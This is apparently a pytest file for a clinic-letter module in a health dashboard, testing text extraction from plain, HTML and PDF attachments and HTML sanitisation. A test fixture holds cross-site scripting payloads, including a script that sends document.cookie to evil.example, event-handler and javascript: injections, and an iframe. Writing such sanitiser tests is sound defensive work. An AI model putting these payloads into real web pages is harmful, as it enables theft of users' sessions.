"""Letters: text from plain, HTML and PDF content, safe HTML, Binary references and broken input."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ltc_dashboard.record import letters
from ltc_dashboard.record.letters import UnreadableLetter, extract_text, sanitise_html
from ltc_dashboard.record.mapping import HELD_ELSEWHERE, map_record


def b64(data: bytes | str) -> str:
    """FHIR base64Binary of some text or bytes."""
    return base64.b64encode(data.encode() if isinstance(data, str) else data).decode()


def document(doc_id: str = "letter-1", **attachment) -> dict:
    """A DocumentReference (a clinic letter) with one attachment."""
    return {
        "resourceType": "DocumentReference", "id": doc_id, "status": "current",
        "type": {"coding": [{"system": "http://snomed.info/sct", "code": "371531000",
                             "display": "Report of clinical encounter"}]},
        "description": "Diabetes clinic letter",
        "date": "2024-05-03T16:00:00Z",
        "author": [{"reference": "Practitioner/dr-a"}],
        "content": [{"attachment": attachment}],
    }


def one_letter(*resources: dict):
    """The single Letter mapped from these resources."""
    (letter,) = map_record(list(resources)).letters
    return letter


def tiny_pdf(text: str) -> bytes:
    """A minimal valid one-page PDF showing `text` in Helvetica, written by hand (pypdf cannot)."""
    content = f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


HOSTILE_HTML = (
    "<html><head><title>Tracking</title><style>p {color: red}</style></head><body>"
    "<h1 onclick=\"steal()\">Clinic letter</h1>"
    "<p style=\"x\" onclick=\"steal()\">Dear Mrs Jones,</p>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<p>Your HbA1c was <b>53&nbsp;mmol/mol</b>.</p>"
    "<a href=\"javascript:alert(1)\">Open</a><img src=x onerror=alert(1)>"
    "<ul><li>Keep taking metformin</li><li>Eye screening due</li></ul>"
    "<iframe src=\"https://evil.example\">framed</iframe>"
    "</body></html>"
)


def test_plain_text_letter_is_decoded_from_base64():
    """A text/plain attachment gives its decoded text, with title, date, author and type."""
    letter = one_letter(
        document(contentType="text/plain", data=b64("Dear Mrs Jones,\nAll well.")),
        {"resourceType": "Practitioner", "id": "dr-a", "name": [{"prefix": ["Dr"], "given": ["Asha"],
                                                                 "family": "Patel"}]},
    )
    assert letter.text == "Dear Mrs Jones,\nAll well."
    assert (letter.title, letter.author, letter.status) == ("Diabetes clinic letter", "Asha Patel", "current")
    assert letter.date is not None and letter.date.isoformat() == "2024-05-03"
    assert letter.type_codings == [("http://snomed.info/sct", "371531000")]
    assert letter.html_safe is None and letter.unavailable_reason is None


def test_plain_text_respects_its_charset():
    """A latin-1 letter is decoded with its declared charset, not mangled as UTF-8."""
    text, _ = extract_text("text/plain; charset=ISO-8859-1", "Café £5".encode("latin-1"))
    assert text == "Café £5"


def test_html_letter_loses_scripts_styles_and_attributes():
    """HTML keeps allow-listed tags only: script and style content gone, no onclick, href or img."""
    letter = one_letter(document(contentType="text/html", data=b64(HOSTILE_HTML)))
    safe = letter.html_safe
    assert safe is not None
    for banned in ("<script", "document.cookie", "onclick", "steal", "href", "javascript", "<img",
                   "onerror", "style", "color: red", "<iframe", "Tracking", "<a"):
        assert banned not in safe, banned
    assert "<p>Dear Mrs Jones,</p>" in safe
    assert "<b>53\xa0mmol/mol</b>" in safe or "<b>53&nbsp;mmol/mol</b>" in safe
    assert "<li>Keep taking metformin</li>" in safe
    assert "document.cookie" not in letter.text and "color" not in letter.text
    assert "Dear Mrs Jones," in letter.text
    assert "- Keep taking metformin\n- Eye screening due" in letter.text
    assert letter.text.startswith("Clinic letter\n")


def test_binary_referenced_letter_is_resolved_from_the_record():
    """An attachment with url Binary/ID is read from the Binary in the same list."""
    binary = {"resourceType": "Binary", "id": "bin-7", "contentType": "text/plain",
              "data": b64("Letter held as a Binary")}
    letter = one_letter(document(url="Binary/bin-7"), binary)
    assert (letter.binary_id, letter.content_type, letter.text) == ("bin-7", "text/plain",
                                                                    "Letter held as a Binary")
    assert map_record([binary]).other == [], "a Binary is content, not an entry of its own"


def test_unresolvable_url_says_content_is_held_elsewhere():
    """An attachment by URL that is not in the record has no text and a plain reason."""
    letter = one_letter(document(contentType="application/pdf", url="https://docs.example/Binary/99"))
    assert letter.text is None
    assert letter.unavailable_reason == HELD_ELSEWHERE
    other = one_letter(document(contentType="text/plain", url="https://docs.example/letter.txt"))
    assert (other.binary_id, other.unavailable_reason) == (None, HELD_ELSEWHERE)


def test_broken_pdf_gives_a_reason_not_a_crash():
    """A damaged PDF maps to a letter with no text and a reason that names the PDF."""
    letter = one_letter(document(contentType="application/pdf", data=b64(b"%PDF-1.4\n1 0 obj <<< broken")))
    assert letter.text is None and letter.pdf_text is None
    assert "PDF" in letter.unavailable_reason


def test_small_real_pdf_gives_its_text():
    """A valid PDF (written by hand in the test) gives its text as both text and pdf_text."""
    letter = one_letter(document(contentType="application/pdf", data=b64(tiny_pdf("Dear Mrs Jones"))))
    assert letter.unavailable_reason is None
    assert "Dear Mrs Jones" in letter.pdf_text
    assert letter.text == letter.pdf_text


def test_bad_base64_and_unsupported_types_give_reasons():
    """Data that is not base64, and an image, give reasons rather than errors."""
    assert one_letter(document(contentType="text/plain", data="***not base64***")).unavailable_reason
    image = one_letter(document(contentType="image/png", data=b64(b"\x89PNG...")))
    assert image.text is None and "image/png" in image.unavailable_reason


def test_text_is_capped_at_two_megabytes():
    """Extracted text never exceeds MAX_TEXT_BYTES, even for a bigger plain-text letter."""
    text, _ = extract_text("text/plain", b"a" * (letters.MAX_TEXT_BYTES + 10_000))
    assert len(text.encode()) == letters.MAX_TEXT_BYTES


def test_oversized_input_is_refused_before_decoding(monkeypatch):
    """Content larger than MAX_INPUT_BYTES is refused with a plain reason."""
    monkeypatch.setattr(letters, "MAX_INPUT_BYTES", 100)
    with pytest.raises(UnreadableLetter, match="too large"):
        letters.decode_base64(b64(b"x" * 200))
    with pytest.raises(UnreadableLetter, match="too large"):
        extract_text("text/plain", b"x" * 200)


def test_unclosed_script_hides_the_rest_rather_than_showing_code():
    """An unclosed <script> drops everything after it instead of leaking it as text."""
    text, safe = extract_text("text/html", b"<p>Hello</p><script>var secret = 1;")
    assert text == "Hello" and "secret" not in safe


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["<script>", "</script>", "<p onclick='x()'>", "</p>", "<b>", "<",
                                 ">", "alert(1)", "<style>", "</style>", "<!--", "-->", "&lt;",
                                 "<img src=x onerror=y>", "text", " ", "<scr", "ipt>", "\"", "'"]),
                max_size=30).map("".join))
def test_sanitised_html_never_holds_live_markup(source):
    """Whatever the input, sanitised HTML has no script element, event handler or image."""
    safe = sanitise_html(source)
    lowered = safe.lower()
    assert "<script" not in lowered and "<img" not in lowered and "<style" not in lowered
    assert not re.search(r"<[^>]*\son\w+\s*=", lowered), "no event handler inside a tag"
